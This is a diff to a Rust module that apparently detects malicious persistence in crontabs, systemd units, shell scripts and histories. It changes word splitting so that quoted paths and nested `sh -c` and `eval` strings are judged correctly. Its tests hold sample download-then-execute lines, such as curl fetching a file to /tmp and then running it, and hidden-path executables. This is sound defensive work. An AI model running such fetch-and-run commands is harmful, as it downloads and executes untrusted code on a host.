@@ -3,11 +3,14 @@
 //! temporary or hidden paths, history tampering, kernel module loads and `chattr` locks.
 //!
 //! Used on crontab commands, unit `Exec*=` lines, rc/profile/at scripts and shell histories.
-//! The split is deliberately coarse: it cuts on `| ; & && || ( ) $( \`` and newlines even inside quotes,
-//! so `sh -c 'curl x | sh'` is seen for what it runs. Arguments of commands that only *mention* things
+//! The split into commands is deliberately coarse: it cuts on `| ; & && || ( ) $( \`` and newlines even
+//! inside quotes, so `sh -c 'curl x | sh'` is seen for what it runs. Words are split as the shell splits
+//! them (quotes and backslashes honoured: `"/tmp/.x y/run"` is one program), and a quoted string handed
+//! to a shell (`sh -c '...'`, `eval "..."`) is split again as the shell text it is. Arguments of commands that only *mention* things
 //! (`pkill`, `kill`, `rm`, `grep`, `sed`, ...) do not count as reaching or running them: a cleanup script
 //! full of rival IOCs is not itself a downloader.
 
+use super::quoting::{lex, Lexeme, Quoting};
 use super::{basename, contains};
 use crate::indicators::{PathClass, PathClasses};
 
@@ -192,46 +195,63 @@ struct Segment {
     substituted: bool,
 }
 
-/// Splits a segment's text into words (quotes removed) and redirection targets (fd numbers dropped).
+/// Whether a word is the option before a shell command string: `-c` (`sh -c`, `su -c`, `flock F -c`),
+/// a cluster ending in it (`bash -lc`) or `--command`.
+fn takes_shell_text(option: &[u8]) -> bool {
+    option == b"--command"
+        || option
+            .strip_prefix(b"-")
+            .is_some_and(|o| o.ends_with(b"c") && o.iter().all(u8::is_ascii_alphabetic))
+}
+
+/// Splits a segment's text into words (quotes honoured and removed, [`super::quoting`]) and redirection
+/// targets. A quoted string handed to a shell as its command (`sh -c '...'`, `su -c "..."`, `eval "..."`) is shell
+/// text, not one word: it is split again in place, so what it runs is judged like the rest of the line.
 fn split_words(text: &[u8]) -> (Vec<Vec<u8>>, Vec<Vec<u8>>) {
     let mut words = Vec::new();
     let mut redirects = Vec::new();
+    split_into(text, 0, &mut words, &mut redirects);
+    (words, redirects)
+}
+
+/// [`split_words`] into `words` and `redirects`, `depth` shell strings deep.
+fn split_into(text: &[u8], depth: u8, words: &mut Vec<Vec<u8>>, redirects: &mut Vec<Vec<u8>>) {
     let mut expect_target = false;
-    for raw in super::words(text) {
-        let w: Vec<u8> = raw
-            .iter()
-            .copied()
-            .filter(|b| *b != b'\'' && *b != b'"')
-            .collect();
-        let mut rest: &[u8] = &w;
-        loop {
-            let op = rest.iter().position(|b| *b == b'>' || *b == b'<');
-            let (piece, after) = match op {
-                Some(p) => (rest.get(..p).unwrap_or_default(), Some(p)),
-                None => (rest, None),
-            };
-            if !piece.is_empty() {
-                if expect_target {
-                    redirects.push(piece.to_vec());
-                    expect_target = false;
-                } else if !(after.is_some() && piece.iter().all(u8::is_ascii_digit)) {
-                    words.push(piece.to_vec());
-                }
+    for lexeme in lex(text, Quoting::Shell) {
+        let (bytes, spaced) = match lexeme {
+            Lexeme::Redirect => {
+                expect_target = true;
+                continue;
             }
-            let Some(p) = after else {
-                break;
-            };
-            let skip = rest
-                .get(p..)
-                .unwrap_or_default()
-                .iter()
-                .take_while(|b| matches!(b, b'>' | b'<'))
-                .count();
-            expect_target = true;
-            rest = rest.get(p + skip..).unwrap_or_default();
+            Lexeme::Word { bytes, spaced } => (bytes, spaced),
+        };
+        if std::mem::take(&mut expect_target) {
+            redirects.push(bytes);
+            continue;
+        }
+        let shell_text = spaced
+            && depth < 4
+            && (words.last().is_some_and(|w| takes_shell_text(w))
+                || words.first().is_some_and(|w| basename(w) == b"eval"));
+        if shell_text {
+            split_into(&bytes, depth + 1, words, redirects);
+        } else {
+            words.push(bytes);
         }
     }
-    (words, redirects)
+}
+
+/// Every word of shell text, then each segment's redirection targets (`true`), segment by segment,
+/// split as [`analyze`] splits them (quotes honoured, shell strings split again): for the readers of what
+/// a line names ([`super::refs`]), so a quoted path with a blank is one path there too.
+pub fn words_in_order(text: &[u8]) -> Vec<(Vec<u8>, bool)> {
+    let text = text.get(..super::MAX_LINE_BYTES).unwrap_or(text);
+    let mut out = Vec::new();
+    for seg in segments(text) {
+        out.extend(seg.words.into_iter().map(|w| (w, false)));
+        out.extend(seg.redirects.into_iter().map(|r| (r, true)));
+    }
+    out
 }
 
 /// Cuts the text into simple commands.
@@ -1046,6 +1066,46 @@ mod tests {
         assert!(
             analyze(b"curl -fsSL http://1.2.3.4/x -o /tmp/x && chmod +x /tmp/x && /tmp/x")
                 .download_then_exec
+        );
+    }
+
+    /// Words split as the shell splits them: a quoted or backslash-escaped blank stays inside the word,
+    /// an assignment's quoted value is not a command, and a quoted string handed to a shell is split again.
+    #[test]
+    fn quoting_is_honoured() {
+        let ran = |text: &[u8]| -> Vec<Vec<u8>> {
+            analyze(text).ran.into_iter().map(|r| r.path).collect()
+        };
+        assert_eq!(
+            ran(b"\"/tmp/.x y/run\" >/dev/null 2>&1"),
+            vec![b"/tmp/.x y/run".to_vec()]
+        );
+        assert_eq!(ran(b"/tmp/.x\\ y/run -q"), vec![b"/tmp/.x y/run".to_vec()]);
+        assert_eq!(
+            ran(b"cd '/var/tmp/.a b' && ./run"),
+            vec![b"/var/tmp/.a b/run".to_vec()]
+        );
+        assert_eq!(ran(b"MSG=\"a b\" /tmp/k"), vec![b"/tmp/k".to_vec()]);
+        assert_eq!(
+            ran(b"nohup sh -c \"/tmp/.k/run -o x\" &"),
+            vec![b"/tmp/.k/run".to_vec()]
+        );
+        assert_eq!(
+            ran(b"bash -lc '/tmp/.k/run -o x'"),
+            vec![b"/tmp/.k/run".to_vec()]
+        );
+        let s = analyze(b"eval \"curl -s http://a/b -o /tmp/b\"; \"/tmp/b\"");
+        assert!(s.download_then_exec, "{s:?}");
+        // A quoted `>` is text, not a redirection; a descriptor before one is dropped.
+        assert_eq!(
+            words_in_order(b"logger \"a > b\" 2>/tmp/err; \"/tmp/.x y/run\" > '/tmp/o p'"),
+            vec![
+                (b"logger".to_vec(), false),
+                (b"a > b".to_vec(), false),
+                (b"/tmp/err".to_vec(), true),
+                (b"/tmp/.x y/run".to_vec(), false),
+                (b"/tmp/o p".to_vec(), true)
+            ]
         );
     }
 
